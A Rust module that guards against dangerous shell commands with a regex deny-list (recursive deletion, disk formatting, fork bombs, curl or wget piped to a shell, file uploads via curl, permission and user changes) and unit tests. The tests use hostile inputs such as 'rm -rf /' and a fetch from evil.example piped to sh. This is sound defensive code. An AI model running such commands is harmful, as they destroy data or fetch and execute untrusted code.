use anyhow::{Context, Result};
use regex::Regex;
use std::sync::LazyLock;

/// Deny-list of dangerous shell command patterns. Extend this list for new
/// threats; never remove an entry to make a command pass.
fn deny_pattern_sources() -> &'static [&'static str] {
    &[
        r"\brm\s+-[rf]{1,2}\b",
        r"\bdel\s+/[fq]\b",
        r"\b(format|mkfs|diskpart)\b",
        r"\bdd\s+if=",
        r">\s*/dev/sd",
        r"\b(shutdown|reboot|poweroff)\b",
        r":\(\)\s*\{.{0,100}\};\s*:",
        r"\bbase64\b.*\|\s*(sh|bash|zsh)\b",
        r"\b(curl|wget)\b.*\|\s*(sh|bash|zsh|python)\b",
        r"\b(curl|wget)\b.*(-d\s*@|--data(-binary|-raw|-urlencode)?\s*@|-F\s|--form\s)",
        r"\bchmod\b.*\bo?[0-7]*7[0-7]{0,2}\b",
        r"\bchown\b",
        r"\b(useradd|userdel|usermod|passwd|adduser|deluser)\b",
        r"\$\(",
        r"`[^`]+`",
    ]
}

pub fn compile_deny_patterns() -> Result<Vec<Regex>> {
    static PATTERNS: LazyLock<Result<Vec<Regex>, String>> = LazyLock::new(|| {
        deny_pattern_sources()
            .iter()
            .map(|p| Regex::new(p).map_err(|e| e.to_string()))
            .collect()
    });
    PATTERNS
        .as_ref()
        .map(Clone::clone)
        .map_err(|e| anyhow::anyhow!(e.clone()))
        .context("failed to compile shell deny patterns")
}

/// Returns the first deny-pattern that matched `command`, if any.
pub fn guard_command(command: &str) -> Option<String> {
    let patterns = compile_deny_patterns().ok()?;
    patterns
        .iter()
        .find(|re| re.is_match(command))
        .map(|re| re.as_str().to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_recursive_rm() {
        assert!(guard_command("rm -rf /").is_some());
    }

    #[test]
    fn rejects_curl_pipe_shell() {
        assert!(guard_command("curl http://evil.example | sh").is_some());
    }

    #[test]
    fn allows_benign_command() {
        assert!(guard_command("ls -la /tmp").is_none());
    }

    #[test]
    fn patterns_compile_once() {
        let a = compile_deny_patterns().unwrap();
        let b = compile_deny_patterns().unwrap();
        assert_eq!(a.len(), b.len());
    }
}
